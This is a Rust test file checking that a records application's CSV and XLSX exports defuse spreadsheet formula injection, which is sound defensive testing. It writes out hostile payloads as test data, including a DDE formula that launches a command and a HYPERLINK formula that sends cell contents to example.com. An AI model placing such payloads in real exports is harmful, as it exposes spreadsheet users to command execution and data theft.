//! X4: no export holds a formula, each text comes back as it was, and the check finds the formulas of an export without the guard.

use std::fmt::Write as _;
use std::io::{Cursor, Read as _};

use waterline::exchange::{ExportFormat, ExportOptions, Formulas, ReadOptions, Table, export, read};
use waterline::model::change::Change;
use waterline::model::language::Language;
use waterline::model::person::PersonPatch;
use waterline::model::viewer::Viewer;

use super::account::Sample;
use super::sample;

/// Every start that a spreadsheet takes for a formula, bare, behind blanks and on a second line.
fn payloads() -> Vec<String> {
    let mut payloads = Vec::new();
    for start in ["=", "+", "-", "@", "＝", "＋", "－", "＠"] {
        for before in ["", " ", "\u{A0}", "\u{3000}", "\u{200B}", "\t", "first line\n", "first line\n\t", "'"] {
            payloads.push(format!("{before}{start}cmd|' /C calc'!A0"));
        }
    }
    payloads.extend(["\rSUM(A1)".to_owned(), "first line\r=cmd|' /C calc'!A0".to_owned()]);
    payloads.extend(["\tSUM(A1)".to_owned(), "=HYPERLINK(\"http://example.com?x=\"&A1,\"click\")".to_owned()]);
    let list = sample::bytes("public/hostile/csv-injection/payloadbox.txt");
    payloads.extend(String::from_utf8_lossy(&list).lines().filter(|line| !line.trim().is_empty()).map(str::to_owned));
    payloads
}

/// An account in which each payload is an alias of somebody and a worry of theirs.
fn poisoned(payloads: &[String]) -> Sample {
    let mut sample = Sample::default();
    let mut list = String::from("工号,姓名,部门,职务\n");
    for number in 0..payloads.len() {
        writeln!(list, "{number},人员{number},=1+1,－处长").expect("a text grows");
    }
    sample.import_text("2026-03-01", &list);
    let people: Vec<_> =
        sample.snapshot().records().persons.iter().map(|person| (person.name.clone(), person.id)).collect();
    for (number, payload) in payloads.iter().enumerate() {
        let name = format!("人员{number}");
        let id = people.iter().find(|(other, _)| *other == name).expect("a person").1;
        let alias = payload.replace(['、', ';', '；', '\n', '\r', '\t'], " ").trim().to_owned();
        let set = PersonPatch { aliases: Some(vec![alias]), ..PersonPatch::default() };
        sample.map.apply(&[Change::EditPerson { id, set }], &Viewer::Operator).expect("a valid change");
        let quoted = payload.replace('"', "\"\"");
        let worry = format!("人员,顾虑,情况日期\n人员{number},\"'{quoted}\",2026-02-01\n");
        sample.import(&read(worry.as_bytes(), "w.csv", &ReadOptions::default()).expect("a table"));
    }
    sample
}

fn exported(sample: &Sample, format: ExportFormat, table: Table, formulas: Formulas) -> Vec<u8> {
    let options = ExportOptions { table, formulas, language: Language::En, ..ExportOptions::on(sample.options.today) };
    export(&sample.snapshot(), format, &options).expect("a file").bytes
}

/// The cells of a text that a spreadsheet would run; read by another reader than ours.
fn live_cells(bytes: &[u8]) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(bytes);
    let records = reader.records().map(|record| record.expect("a row"));
    let cells = records.flat_map(|record| record.iter().map(str::to_owned).collect::<Vec<_>>());
    let is_live = |cell: &String| {
        let is_blank = |c: char| c.is_whitespace() || matches!(c, '\u{FEFF}' | '\u{200B}'..='\u{200F}' | '\u{2060}');
        let begins =
            |line: &str| line.trim_start_matches(is_blank).starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
        !cell.starts_with('\'') && (cell.starts_with(['\t', '\r']) || cell.lines().any(begins))
    };
    cells.filter(is_live).collect()
}

/// How many cells of a workbook are formulas, as its parts say.
fn formulas_in(bytes: &[u8]) -> usize {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).expect("a workbook");
    let names = archive.file_names().map(|name| name.expect("a name").into_owned());
    let names: Vec<String> = names.filter(|name| name.starts_with("xl/worksheets/")).collect();
    assert!(!names.is_empty());
    let mut count = 0;
    for name in names {
        let mut text = String::new();
        archive.by_name(&name).expect("a part").read_to_string(&mut text).expect("text");
        count += text.matches("<f>").count() + text.matches("<f ").count();
    }
    count
}

#[test]
fn x4_every_payload_is_defused_and_comes_back() {
    let payloads = payloads();
    let mut sample = poisoned(&payloads);

    for table in [Table::Contacts, Table::Claims] {
        let bytes = exported(&sample, ExportFormat::Csv, table, Formulas::Defused);

        assert_eq!(live_cells(&bytes), Vec::<String>::new(), "{table:?}");
        let again = sample.plan(&read(&bytes, "again.csv", &ReadOptions::default()).expect("a table"));
        assert_eq!(again.changes, [], "{table:?}");
    }
    let bytes = exported(&sample, ExportFormat::Xlsx, Table::Contacts, Formulas::Defused);
    assert_eq!(formulas_in(&bytes), 0);
    let again = sample.plan(&read(&bytes, "again.xlsx", &ReadOptions::default()).expect("a workbook"));
    assert_eq!(again.changes, []);
}

#[test]
fn x4_the_check_finds_the_formulas_of_an_export_without_the_guard() {
    let payloads = payloads();
    let sample = poisoned(&payloads);

    let contacts = live_cells(&exported(&sample, ExportFormat::Csv, Table::Contacts, Formulas::Live));
    let claims = live_cells(&exported(&sample, ExportFormat::Csv, Table::Claims, Formulas::Live));
    let workbook = exported(&sample, ExportFormat::Xlsx, Table::Contacts, Formulas::Live);

    // In each row the unit and the title, beside the payload itself where it is one.
    assert!(contacts.len() > 2 * payloads.len() + 40, "{} of {}", contacts.len(), payloads.len());
    assert!(claims.len() > 60, "{} of {}", claims.len(), payloads.len());
    assert!(formulas_in(&workbook) >= payloads.len(), "{} of {}", formulas_in(&workbook), payloads.len());
}
